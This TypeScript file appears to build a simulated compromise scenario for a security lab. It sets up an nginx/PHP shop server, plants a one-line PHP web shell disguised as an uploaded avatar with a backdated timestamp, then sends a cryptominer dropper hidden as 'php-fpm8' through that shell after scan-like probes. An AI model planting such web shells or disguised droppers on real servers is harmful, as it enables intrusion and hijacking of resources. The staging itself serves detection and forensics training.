// The requests of its upload are rotated away; the shell was used today to bring the miner.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  nginx(
    dress,
    'root /srv/www; index index.php; location ~ \\.php$ { include fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }',
  )
  dress.write('/srv/www/index.php', "<?php echo 'shop';\n")
  const weeks = new Date(Date.now() - 23 * 86_400_000)
  dress.write('/srv/www/uploads/2026/10/avatar_8812.php', "<?php @system($_POST['cmd']); ?>\n", { owner: 33, mtime: weeks })
  dress.enable('nginx', 'php8.2-fpm')
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.php/php-fpm8', cron: false })
  await stage.scan('192.0.2.61')
  for (const path of ['/', '/index.php', '/index.php?id=3']) await stage.http('198.51.100.44', path)
  stage.mark('occurrence')
  await stage.http('203.0.113.140', '/uploads/2026/10/avatar_8812.php', `cmd=${encodeURIComponent(line)}`)
}
